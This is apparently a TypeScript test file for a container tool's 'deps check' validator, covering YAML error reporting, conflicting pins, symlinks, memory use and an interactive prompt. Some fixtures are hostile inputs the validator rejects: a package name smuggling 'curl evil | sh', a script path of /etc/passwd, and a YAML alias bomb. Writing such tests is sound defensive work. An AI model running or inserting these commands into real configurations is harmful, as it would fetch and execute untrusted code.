import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { depsProject } from "./support/deps-project.ts";
import { rocker } from "./support/rocker.ts";
import { Terminal } from "./support/terminal.ts";
import { ownDirectory, testUser } from "./support/test-user.ts";
import { giveTo } from "./support/tree.ts";

// Errors are reported without an engine.
const env = { PATH: `/nowhere:${testUser.env.PATH}`, DOCKER_HOST: "unix:///nowhere" };
const run = (cwd: string, ...args: string[]) => rocker(args, { env, cwd, withAll: true });

const bomb = Array.from({ length: 9 }, (_, at) => `a${at + 1}: &a${at + 1} [${`*a${at},`.repeat(9)}]`);

/** A file for each kind of mistake, and the error. */
const wrong: Readonly<Record<string, readonly [text: string, said: string]>> = {
  word: [
    "apt_main: [git]\natp_main: [git]",
    ':2:1: unknown command "atp" in "atp_main".\n  Did you mean "apt"?',
  ],
  twice: ["apt_a: [x]\napt_a: [y]", ":2:1: invalid YAML: Map keys must be unique"],
  tab: ["apt_a:\n\t- git", ":2:1: invalid YAML: Tabs are not allowed"],
  scalar: ["apt_a: git", ':1:8: expected a list, but found "git"'],
  empty: ["apt_a:", ":1:1: expected a list, but found nothing"],
  bomb: [`a0: &a0 [x]\n${bomb.join("\n")}`, ':1:1: unknown command "a0"'],
  references: [
    `run_a: &a [x]\n${Array.from({ length: 200 }, (_, at) => `run_${at}: *a`).join("\n")}`,
    "more than 100 aliases",
  ],
  deep: [`apt: ${"[".repeat(100_000)}`, ":1:1: lists or maps are nested more than 100 levels deep"],
  shell: ["apt_a:\n  - foo; curl evil | sh", ':2:5: "foo; curl evil | sh" is not a valid apt package'],
  option: ["apt_a: [--reinstall]", '"--reinstall" is not a valid apt package'],
  absolute: ["script_a: [/etc/passwd]", 'script path "/etc/passwd" is outside this file\'s directory'],
  outside: ["script_a: [../x.sh]", 'script path "../x.sh" is outside this file\'s directory'],
  gone: ["script_a: [gone.sh]", '"sub/gone.sh" does not exist'],
};

describe("rocker deps check", () => {
  it("reports all errors in all files with their positions", async () => {
    const files = Object.entries(wrong).map(([name, [text]]) => [`sub/${name}.deps.yaml`, `${text}\n`]);
    const { code, stdout, stderr } = await run(
      depsProject(testUser, Object.fromEntries(files)),
      "deps",
      "check",
    );
    expect({ code, stdout }).toEqual({ code: 2, stdout: "" });
    for (const [name, [, said]] of Object.entries(wrong)) {
      expect(stderr).toContain(`sub/${name}.deps.yaml:`);
      expect(stderr).toContain(said);
    }
  });

  it("rejects conflicting orders, pins and values of two projects and names both", async () => {
    const directory = depsProject(testUser, {
      "arm/a.deps.yaml": "apt_sources: [tree]\napt_tools: [jq=1]\nenv_main: [FOO=1]\n",
      "base/b.deps.yaml": "apt_tools: [jq=2]\napt_sources: [tree]\nenv_main: [FOO=2]\n",
    });
    for (const args of [
      ["deps", "check"],
      ["--deps", "debian:bookworm"],
    ]) {
      const { code, stderr } = await run(directory, ...args);
      expect(code).toBe(args[0] === "deps" ? 2 : 125);
      expect(stderr).toContain("apt_sources → apt_tools → apt_sources");
      for (const place of ["arm/a.deps.yaml:2:1", "base/b.deps.yaml:2:1"]) expect(stderr).toContain(place);
      for (const pin of ["arm/a.deps.yaml:2:13: jq=1", "base/b.deps.yaml:1:13: jq=2"]) {
        expect(stderr).toContain(pin);
      }
      expect(stderr).toMatch(/conflicting values for variable FOO\.\n.*arm.*FOO=1\n.*base.*FOO=2/);
    }
  });

  it("ignores circular symlinks, and names unreadable files", async () => {
    const directory = depsProject(testUser, {
      "a.deps.yaml": "apt_a: [git]\n",
      "sub/b.deps.yaml": "apt_a: [jq]\n",
    });
    symlinkSync(directory, join(directory, "sub/loop"));
    symlinkSync("self.deps.yaml", join(directory, "self.deps.yaml"));
    chmodSync(join(directory, "sub/b.deps.yaml"), 0);
    const { code, stderr } = await run(directory, "deps", "check");
    expect(code).toBe(2);
    expect(stderr).toContain('"self.deps.yaml" does not exist, or cannot be read');
    expect(stderr).toContain('"sub/b.deps.yaml" cannot be read');
    expect(stderr).not.toContain("loop");
  });

  it("preserves a marker with quotes and spaces, and prints the order", async () => {
    const marker = `foo[x]==1.0; python_version < "3.12" and sys_platform == 'linux'`;
    const directory = depsProject(testUser, {
      "a.deps.yaml": `apt_main: [git]\npip_main:\n  - ${marker}\n`,
      "b.deps.yaml": "version: 2\nlayers: {codegen: {after: [main], run: [make]}}\n",
    });
    const { stdout } = await run(directory, "plan", "--format", "json", "--deps", "debian:bookworm");
    const steps = JSON.parse(stdout).steps as { args?: readonly string[] }[];
    expect(steps.flatMap(({ args }) => args ?? [])).toContain(marker);
    const graphs = ["text", "json", "mermaid"].map((format) =>
      run(directory, "deps", "graph", "--format", format),
    );
    const [plain, data, mermaid] = await Promise.all(graphs);
    expect(plain?.stdout).toMatch(/3\. run_codegen\n\s+after apt_main: b\.deps\.yaml:2:28\n/);
    expect(JSON.parse(data?.stdout ?? "").steps).toHaveLength(3);
    expect(mermaid?.stdout).toMatch(/^flowchart TD\n {2}s1\["apt_main"\]\n/);
  });

  it("reads a tree of 100 000 files in bounded memory", async () => {
    const directory = ownDirectory();
    for (let index = 0; index < 5000; index++) {
      const inner = join(directory, `package-${index % 50}`, `directory-${index}`);
      mkdirSync(inner, { recursive: true });
      for (let file = 0; file < 20; file++) writeFileSync(join(inner, `${file}.cpp`), "");
      if (index % 16 === 0) {
        const text = `apt_main: [lib${index}, jq]\nrun_build:\n  - echo ${index} "a: b"\n`;
        writeFileSync(join(inner, `${index}.deps.yaml`), text.replaceAll("a: b", index % 2 ? "a: b" : "a b"));
      }
    }
    giveTo(testUser, directory);
    const hook = 'process.on("exit", () => console.error("peak", process.resourceUsage().maxRSS))';
    const options = { NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(hook)}` };
    const { stdout, stderr } = await rocker(["deps", "check"], {
      env: { ...env, ...options },
      cwd: directory,
      withAll: true,
    });
    expect(stdout).toBe("313 files, 2 steps: no problems found.\n");
    const [, kilobytes = "Infinity"] = /peak (\d+)/.exec(stderr) ?? [];
    expect(Number(kilobytes)).toBeLessThan(200_000);
  });
});

describe("--auto=ask", () => {
  let terminal: Terminal | undefined;
  afterEach(() => terminal?.close());

  it("asks about each extension once in a terminal", async () => {
    const directory = depsProject(testUser, { "x.deps.yaml": "run_a: [true]\n", "package.json": "{}" });
    terminal = await Terminal.open(testUser, {}, { withAll: true });
    terminal.enter(`cd '${directory}'`);
    await terminal.clear();
    terminal.enter("rocker --dry-run --auto=ask debian:bookworm true >plan; echo code=$?");
    await terminal.seen(/Enable deps \(x\.deps\.yaml\)\? \[Y\/n\] *$/);
    terminal.press("Enter");
    await terminal.seen(/Enable node \(package\.json\)\? \[Y\/n\] *$/);
    terminal.enter("n");
    await terminal.seen(/auto: enabled deps \(x\.deps\.yaml\)\s+code=0/);
    expect(terminal.screen().match(/Enable/g)).toHaveLength(2);
    await terminal.clear();
    terminal.enter("grep -c run_a plan; grep -c node plan");
    await terminal.seen(/^[1-9]\d*\n0$/m);
    await terminal.clear();
    terminal.enter("rocker --dry-run --auto=ask debian:bookworm true >plan; echo code=$?");
    await terminal.seen(/Enable deps \(x\.deps\.yaml\)\? \[Y\/n\] *$/);
    terminal.press("C-c");
    await terminal.seen(/RK505.*code=130/s);
  });
});
